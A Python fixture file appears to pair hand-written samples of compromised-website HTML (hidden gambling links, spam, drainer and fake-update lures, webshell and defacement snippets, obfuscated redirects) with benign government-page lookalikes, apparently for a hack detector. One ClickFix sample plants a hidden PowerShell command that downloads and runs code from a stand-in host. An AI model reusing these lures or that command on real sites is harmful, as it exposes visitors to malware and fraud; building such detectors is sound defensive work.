"""Further samples, by hand: what hackers leave in pages, and what offices have that only looks like it."""

from __future__ import annotations

HACKED = {
    "font white": "<body><font color=#fff><a href='https://hiburan-kita.example/'>mitra</a></font>",
    "font white2": "<font color='#ffffff'>x <a href='https://hiburan-kita.example/'>y</a></font>",
    "color:#fff no ground": "<a style='color:#fff' href='https://hiburan-kita.example/'>x</a>",
    "color #fefefe": "<p style='color:#fefefe'><a href='https://hiburan-kita.example/'>x</a></p>",
    "color same rgb": (
        "<div style='background:#123456;color:rgb(18,52,86)'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "details": "<details style='display:none'><a href='https://hiburan-kita.example/'>slot gacor</a></details>",
    "template": "<template><a href='https://slot88.example/'>x</a></template>",
    "aria": "<div aria-hidden=true style='font-size:0'><a href='https://hiburan-kita.example/'>x</a></div>",
    "lineheight": (
        "<div style='line-height:0;height:0;overflow:hidden'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "maxheight": "<div style='max-height:0;overflow:hidden'><a href='https://hiburan-kita.example/'>x</a></div>",
    "translate": "<div style='transform:translateX(-9999px)'><a href='https://hiburan-kita.example/'>x</a></div>",
    "translate3d": (
        "<div style='transform:translate(-5000px,-5000px)'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "left calc": (
        "<div style='position:absolute;left:calc(-1 * 9999px)'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "filter opacity": "<div style='filter:opacity(0)'><a href='https://hiburan-kita.example/'>x</a></div>",
    "alpha": (
        "<div style='filter:alpha(opacity=0);-moz-opacity:0'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "content-visibility": (
        "<div style='content-visibility:hidden'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "marquee1": "<marquee height=1 width=1 scrollamount=99><a href='https://hiburan-kita.example/'>x</a></marquee>",
    "right99": "<div style='position:absolute;right:-9999px'><a href='https://hiburan-kita.example/'>x</a></div>",
    "u style": "<u style='display:none'><a href='https://hiburan-kita.example/'>x</a></u>",
    "inset": (
        "<div style='position:absolute;inset:-9999px auto auto -9999px'><a href='https://hiburan-"
        "kita.example/'>x</a></div>"
    ),
    "margin-top": (
        "<div style='margin-top:-9999px;position:absolute'><a href='https://hiburan-kita.example/'>x</a></div>"
    ),
    "letter-spacing": "<div style='font-size:0.1em'><a href='https://hiburan-kita.example/'>x</a></div>",
    "color transparent rgba": "<div style='color:rgba(0,0,0,0)'><a href='https://hiburan-kita.example/'>x</a></div>",
    "comment": "<!-- slot gacor hari ini maxwin https://slot88.example/ -->",
    "img alt": "<img src='/a.jpg' alt='slot gacor maxwin hari ini'>",
    "img title": "<img src='/a.jpg' title='Situs slot gacor terpercaya'>",
    "a title": "<a href='/x' title='slot gacor hari ini'>x</a>",
    "meta desc jp": "<meta name=description content='ルイヴィトン 財布 スーパーコピー 激安通販 送料無料'>",
    "jp text": "<p>ルイヴィトン 財布 スーパーコピー 激安通販 送料無料 ブランド品専門店</p>",
    "jp link": "<a href='/wp/item-2233.html'>ロレックス スーパーコピー 時計 激安</a>",
    "cn": "<title>澳门新葡京娱乐城-官网</title>",
    "ru": "<p>Купить виагру онлайн недорого без рецепта</p>",
    "pharma": "<p>Buy Cialis online cheap no prescription</p>",
    "pharma2": "<a href='/store/'>Order Kamagra jelly 100mg overnight delivery</a>",
    "pharma3": "<h2>Ivermectin for sale - best price online pharmacy</h2>",
    "loans": "<p>Dana cepat cair 5 menit tanpa BI checking, klik di sini</p>",
    "loan en": "<p>Payday loans online instant approval no credit check</p>",
    "crypto drainer": (
        "<script src='https://cdn.example/x.js'></script><button>Connect Wallet to claim your airdrop</button>"
    ),
    "drainer2": "<p>Claim $5000 USDT airdrop now! Connect your wallet</p>",
    "clickfix": "<div>Verify you are human</div><p>Press Win + R, then CTRL + V and press Enter</p>",
    "clickfix2": (
        "<h1>Verifikasi bahwa Anda manusia</h1><ol><li>Tekan tombol Windows + R</li><li>Tekan CTR"
        "L + V</li><li>Tekan Enter</li></ol>"
    ),
    "clickfix3": (
        "<script>navigator.clipboard.writeText('powershell -w hidden -c iwr https://a.example/x|iex')</script>"
    ),
    "clickfix4": (
        "<script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtdyBoaWRkZW4='))</script><p>P"
        "ress Windows Key + R</p>"
    ),
    "fake update": (
        "<div>Your browser is out of date. Update Chrome now</div><a href='https://chrome-update."
        "example/setup.exe'>Update</a>"
    ),
    "popunder": "<script src='//pl12345.profitablecpmratenetwork.com/aa/bb/x.js'></script>",
    "popads": "<script src='//c1.popads.net/pop.js'></script>",
    "adsterra": "<script src='//www.highperformanceformat.com/abc/invoke.js'></script>",
    "onclicka": "<script src='https://propellerads.com/400/5'></script>",
    "sw2": "<script>navigator.serviceWorker.register('/sw-check-permissions-a1b2c.js')</script>",
    "base": "<base href='https://hiburan-kita.example/'>",
    "canonical": "<link rel=canonical href='https://hiburan-kita.example/'>",
    "onerror": "<img src=x onerror=\"location.href='https://hiburan-kita.example/'\">",
    "parked": (
        "<title>nusaraya.go.id</title><h1>nusaraya.go.id</h1><p>This domain is for sale. Buy this"
        " domain.</p><p>Related Searches</p>"
    ),
    "parked2": "<title>Domain parked</title><p>This domain is parked free, courtesy of GoDaddy</p>",
    "suspended": "<title>Account Suspended</title><h1>This Account has been suspended.</h1>",
    "default": (
        "<title>Welcome to nginx!</title><h1>Welcome to nginx!</h1><p>If you see this page, the n"
        "ginx web server is successfully installed</p>"
    ),
    "default2": "<title>Apache2 Ubuntu Default Page: It works</title><h1>It works!</h1>",
    "index of": "<title>Index of /</title><h1>Index of /</h1><a href='wp-config.php.bak'>wp-config.php.bak</a>",
    "webshell": (
        "<title>WSO 4.2.5</title><pre>uname: Linux</pre><form method=post><input name=pass type=password></form>"
    ),
    "webshell2": "<title>Gecko Shell</title><h1>File Manager</h1><p>Upload File: </p><p>drwxr-xr-x</p>",
    "deface pic": "<title>-</title><body bgcolor=black><center><img src='https://i.imgur.com/a.jpg'></center>",
    "deface music": (
        "<title>Nusaraya</title><body style='background:#000'><img src='/x.jpg'><audio autoplay s"
        "rc='https://a.example/x.mp3'></audio><p>#OpIndonesia Free Palestine</p>"
    ),
    "deface id": "<title>Nusaraya</title><h1>Website ini telah diretas</h1><p>Keamanan website kalian lemah min!</p>",
    "deface 3": "<h1>Stamped by Tn.Ghost</h1>",
    "deface 4": "<title>0wn3d by x0r</title>",
    "deface5": "<h1>Security is just an illusion</h1><p>Indonesian Cyber Army</p>",
    "deface6": "<title>Hacked</title><p>./F4K3R</p>",
    "js eval": "<script>eval(atob('bG9jYXRpb249J2h0dHBzOi8veC5leGFtcGxlJw=='))</script>",
    "fromcc": (
        "<script>window.location=String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,"
        "97,109,112,108,101)</script>"
    ),
    "bet tld": "<a href='https://nusantara.bet/'>x</a>",
    "iframe hidden": "<iframe src='https://hiburan-kita.example/' width=0 height=0></iframe>",
    "iframe full": (
        "<iframe src='https://hiburan-kita.example/' style='position:fixed;top:0;left:0;width:100"
        "%;height:100%;z-index:99999'></iframe>"
    ),
    "amp": "<link rel=amphtml href='https://amp.gacor.example/'>",
    "og:url": "<meta property='og:url' content='https://rajaslot88.example/'>",
    "og:image": "<meta property='og:image' content='https://cdn.example/slot-gacor-banner.jpg'>",
    "togel kata": "<p>Nomor keluaran HK malam ini: prediksi jitu 2D 3D 4D</p>",
    "sabung": "<p>Situs sabung ayam online SV388 deposit murah</p>",
    "tembak ikan": "<p>Agen tembak ikan dan live casino online</p>",
    "rtp": "<p>RTP slot tertinggi hari ini 98%</p>",
    "depo": "<p>Depo 10rb WD 1 juta, bonus new member 100% di awal</p>",
    "link alt": "<p>Klik link alternatif login daftar resmi DEWA138</p>",
    "porn": "<p>Nonton bokep indo viral terbaru gratis</p>",
    "wa": "<a href='https://wa.me/628123?text=obat+aborsi'>Jual obat penggugur kandungan</a>",
    "judi en": "<p>Best online casino Indonesia, free spins no deposit bonus</p>",
    "hk pools": "<p>Live draw HK pools tercepat, paito warna SDY</p>",
    "backlink pbn": "<p><a href='https://paito-warna.example/'>paito sdy</a></p>",
}

CLEAN = {
    "raid brand": (
        "<p>Polisi menyebut situs DEWA138 dan RAJA77 sebagai situs judi online yang dikelola tersangka.</p>"
    ),
    "hacked by design": "<h3>Hacked by Design: pameran seni instalasi di Taman Budaya</h3>",
    "hacked by design link": (
        "<a href='/b'>Hacked by Design: Pameran Seni di Taman Budaya</a>Layanan warga dibuka puku"
        "l 08.00 sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 "
        "sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 1"
        "5.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 set"
        "iap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari"
        " kerja di kantor dinas."
    ),
    "seminar": (
        "<h2>Seminar “Why My Website Got Hacked” di Universitas Nusaraya</h2><p>Layanan warga dib"
        "uka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka puku"
        "l 08.00 sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 "
        "sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 1"
        "5.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 set"
        "iap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari"
        " kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja d"
        "i kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor"
        " dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.<"
        "/p>"
    ),
    "cpns": "<p>Formasi CPNS 2026: slot tersedia 120, daftar slot ujian CAT di laman SSCASN</p>",
    "time slots": "<p>Pilih time slot kunjungan; slot 1 penuh</p>",
    "toto": "<a href='/x'>Toto Sudarto dilantik sebagai Camat</a>",
    "toto2": "<p>Wastafel TOTO dan kloset TOTO untuk puskesmas</p>",
    "gacor": "<h3>Lomba Burung Kicau Gacor Piala Bupati</h3>",
    "gpr": (
        "<script src='https://widget.kominfo.go.id/gpr-widget-kominfo.min.js'></script><div id='g"
        "pr-kominfo-widget-container'></div>"
    ),
    "yt": "<iframe src='https://www.youtube.com/embed/x'></iframe>",
    "fb": "<iframe src='https://www.facebook.com/plugins/page.php' style='border:none;overflow:hidden'></iframe>",
    "maps": "<iframe src='https://www.google.com/maps/embed?pb=1' width=600 height=450></iframe>",
    "bps": "<iframe src='https://kab.bps.go.id/widget' ></iframe>",
    "bmkg": "<iframe src='https://data.bmkg.go.id/' ></iframe>",
    "counter": "<script src='https://s10.histats.com/js15.js'></script><a href='https://www.histats.com'>stat</a>",
    "flag": "<a href='https://info.flagcounter.com/abc'><img src='https://s11.flagcounter.com/count2/abc'></a>",
    "cookie": (
        "<div class='cookie-banner' style='display:none'><a href='https://cookiebot.example/'>Kebijakan</a></div>"
    ),
    "dark": (
        "<style>.dark a{color:#fff;background:#000}body.dark .x{color:#fff}</style><a class=x hre"
        "f='https://kemendagri.go.id'>x</a>"
    ),
    "white on dark": (
        "<footer style='background:#003366'><a style='color:#fff' href='https://mitra-media.examp"
        "le/'>Mitra Media</a></footer>"
    ),
    "white on dark css": (
        "<style>.foot{background:#036}</style><div class=foot><a style='color:#fff' href='https:/"
        "/mitra-media.example/'>Mitra</a></div>"
    ),
    "white font on table": (
        "<table bgcolor='#003366'><tr><td><font color='#ffffff'><a href='https://mitra-media.exam"
        "ple/'>Mitra</a></font></td></tr></table>"
    ),
    "button": "<a class='btn btn-primary' style='color:white' href='https://pendaftaran-lomba.example/'>Daftar</a>",
    "hero": (
        "<div class='hero' style=\"background-image:url('/a.jpg')\"><a style='color:#fff' href='htt"
        "ps://pariwisata-nusaraya.example/'>Jelajahi</a></div>"
    ),
    "sr": (
        "<span class='sr-only'>tautan</span><a class='visually-hidden-focusable' style='position:"
        "absolute;clip:rect(0,0,0,0)' href='https://x-nusaraya.example/'>lewati</a>"
    ),
    "slider": "<div class='slide' style='display:none'><a href='https://event-nusaraya.example/'>Festival</a></div>",
    "a11y": "<script src='https://cdn.userway.org/widget.js'></script>",
    "multi": "<div class='lang-switch' style='display:none'><a href='https://en.nusaraya.go.id/'>EN</a></div>",
    "emergency": "<div class='alert' role=alert style='position:fixed;top:0'>Darurat banjir! Hubungi 112</div>",
    "domain for sale news": (
        "<h3>Tanah dijual: pengumuman lelang aset daerah</h3><p>Layanan warga dibuka pukul 08.00 "
        "sampai 15.00 setiap hari kerja di kantor dinas.</p>"
    ),
    "suspended news": (
        "<p>Akun media sosial dinas ditangguhkan sementara</p><p>Layanan warga dibuka pukul 08.00"
        " sampai 15.00 setiap hari kerja di kantor dinas.</p>"
    ),
    "nginx art": (
        "<h1>Pelatihan server nginx bagi operator desa</h1><p>Layanan warga dibuka pukul 08.00 sa"
        "mpai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15."
        "00 setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setia"
        "p hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari k"
        "erja di kantor dinas.</p>"
    ),
    "verify": "<p>Verifikasi bahwa Anda manusia saat mengisi SP4N</p>",
    "win r tutorial": (
        "<h2>Cara instal aplikasi e-Office</h2><p>Tekan Windows + R lalu ketik services.msc</p><p"
        ">Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.Layanan"
        " warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga d"
        "ibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.Layanan warga dibuka pu"
        "kul 08.00 sampai 15.00 setiap hari kerja di kantor dinas.</p>"
    ),
    "palestine": (
        "<h3>ASN galang dana Free Palestine</h3><p>Layanan warga dibuka pukul 08.00 sampai 15.00 "
        "setiap hari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap h"
        "ari kerja di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerj"
        "a di kantor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kan"
        "tor dinas.Layanan warga dibuka pukul 08.00 sampai 15.00 setiap hari kerja di kantor dina"
        "s.</p>"
    ),
    "wallet": "<p>Connect Wallet OVO dan GoPay untuk bayar PBB</p>",
    "wallet2": "<p>Pembayaran retribusi dengan e-wallet, klaim cashback</p>",
    "pharmacy": "<p>Apotek RSUD melayani resep online 24 jam</p>",
    "loan": "<p>Pinjaman lunak dana bergulir cair bulan ini untuk 50 UMKM</p>",
    "casino": "<p>Bimtek Kasino: bukan, ini nama komedian Kasino Hadiwibowo</p>",
    "sabung news": "<p>Polsek bubarkan sabung ayam di Desa Sukamaju, tiga orang diamankan</p>",
    "sw own": "<script>if('serviceWorker' in navigator){navigator.serviceWorker.register('/sw.js')}</script>",
    "sw wp": "<script>navigator.serviceWorker.register('/?wp_service_worker=1',{scope:'/'})</script>",
    "clip copy": (
        "<script>document.querySelector('.copy').onclick=()=>navigator.clipboard.writeText(location.href)</script>"
    ),
    "noindex tag page": "<meta name='robots' content='max-image-preview:large'>",
    "logo cdn": "<header><img class=custom-logo src='https://i0.wp.com/nusaraya.go.id/logo.png'></header>",
    "fav cdn": "<link rel=icon href='https://cdn.statically.io/favicon.ico'>",
    "jp news": "<p>Bupati menerima tamu dari Jepang (日本) dan belajar ありがとう bersama siswa.</p>",
    "arab": "<p>بسم الله الرحمن الرحيم Assalamualaikum warahmatullahi wabarakatuh</p>",
    "ru tourism": "<a href='/ru'>Русский</a> <a href='/zh'>中文</a> <a href='/ja'>日本語</a> <a href='/ko'>한국어</a>",
    "owned": "<footer>Owned by Diskominfo Kabupaten X</footer>",
    "slot antrean": "<p>Ambil nomor antrean: slot online pukul 09.00 masih tersedia untuk layanan KTP</p>",
    "4d": "<p>USG 4D tersedia di RSUD; foto 4D bayi</p>",
    "hk": "<p>Data HK 2 hari hari kerja; bonus demografi</p>",
    "live": "<p>Live draw undian sapi kurban</p>",
    "poker": "<p>Spin bike dan Domino’s Pizza buka gerai</p>",
    "template el": "<template id='card'><a href='https://contoh-mitra.example/'>x</a></template>",
    "mailto": "<a href='mailto:humas@nusaraya.go.id'>x</a>",
    "og img cdn": "<meta property='og:image' content='https://cdn.nusaraya.go.id/a.jpg'>",
}
